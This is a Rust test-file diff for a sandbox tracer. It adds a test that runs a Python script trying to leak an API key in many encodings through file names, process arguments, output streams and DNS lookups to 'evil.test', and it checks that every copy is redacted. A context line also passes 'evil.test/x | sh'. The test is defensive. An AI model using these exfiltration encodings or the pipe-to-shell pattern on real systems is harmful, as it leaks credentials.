@@ -12,6 +12,10 @@ use skillsandbox_tracer::{
 };
 
 fn traced(plan: PlanBuilder, script: &str, arguments: &[&str]) -> Trace {
+    traced_with(plan, script, arguments, &[])
+}
+
+fn traced_with(plan: PlanBuilder, script: &str, arguments: &[&str], secrets: &[(String, String)]) -> Trace {
     let folder = tempfile::tempdir().unwrap();
     let path = folder.path().join("trace.json");
     let header = Header::new("attacker", "tests");
@@ -20,7 +24,7 @@ fn traced(plan: PlanBuilder, script: &str, arguments: &[&str]) -> Trace {
     let recorder = recorder.classify(Box::new(Classifier::new())).fold(Fold::Nothing);
     let plan = plan.timeout(Duration::from_mins(1)).build().unwrap();
     let command = Command::new("python3").args(["-c", script]).args(arguments);
-    let ran = record(&plan, command, recorder, &[], None, &Streams::default()).unwrap();
+    let ran = record(&plan, command, recorder, secrets, None, &Streams::default()).unwrap();
     let outcome = ran.outcome.unwrap();
     let trace = read(&path).unwrap();
     verify(&path).unwrap();
@@ -173,4 +177,41 @@ subprocess.run(['/bin/true', *['x' * 30000] * 3])
     };
     assert!(argv("evil.test/x | sh").unwrap().iter().any(|text| text == "last"));
     assert!(argv("xxxxx").unwrap().last().unwrap().contains("more]"));
+}
+
+/// A secret in every place that a program can put one, in every spelling.
+#[test]
+fn row_144_a_secret_is_nowhere_in_a_trace() {
+    const SECRET: &str = "Correct-Horse/Battery+9";
+    let script = "
+import base64, os, socket, subprocess, sys
+s = bytes.fromhex(sys.argv[1]).decode()
+def tries(what, *args):
+    try: what(*args)
+    except OSError: pass
+spellings = [s, s.lower(), s.upper(), s[::-1], s.encode().hex(), s.encode().hex().upper(), s.replace('/', '%2F').replace('+', '%2b')]
+for pad in ['', 'x', 'yy']:
+    spellings += [base64.b64encode((pad + s + pad).encode()).decode(), base64.urlsafe_b64encode((pad + s).encode()).decode()]
+for pad in ['', 'x', 'xx', 'xxx', 'xxxx']:
+    spellings += [base64.b32encode((pad + s).encode()).decode(), base64.b32encode((pad + s).encode()).decode().lower()]
+for t in spellings:
+    tries(open, '/tmp/' + t)
+    tries(subprocess.run, ['/bin/true', t, 'a' + t + 'b'])
+    print(t); print(t, file=sys.stderr)
+    label = t.replace('/', '-').replace('+', '-').replace('%', '-').replace('=', '')[:60]
+    tries(socket.getaddrinfo, label + '.evil.test', 80)
+for at in [16384, 16360, 65536 - 20]:
+    subprocess.run(['/bin/true', 'z' * (at - 10) + s]) if at < 20000 else subprocess.run(['/bin/true', *['z' * 16000] * 4, 'z' * (at - 64000 - 10) + s])
+os.symlink('/tmp/' + s, '/tmp/link'); tries(open, '/tmp/link')
+";
+    let hex: String = SECRET.bytes().map(|byte| format!("{byte:02x}")).collect();
+
+    let secrets = [("API_KEY".to_owned(), SECRET.to_owned())];
+    let trace = traced_with(Plan::builder(), script, &[&hex], &secrets);
+    let text = format!("{:?}", trace.events).to_lowercase();
+    for part in ["correct-hor", "battery+9", "yrettab", "636f7272656374", "q29ycmvjd", "inxxe4tfmn2"] {
+        let at = text.find(part);
+        assert!(at.is_none(), "{part}: {}", &text[at.unwrap().saturating_sub(300)..at.unwrap() + 60]);
+    }
+    assert!(text.matches("[redacted:api_key]").count() > 100);
 }
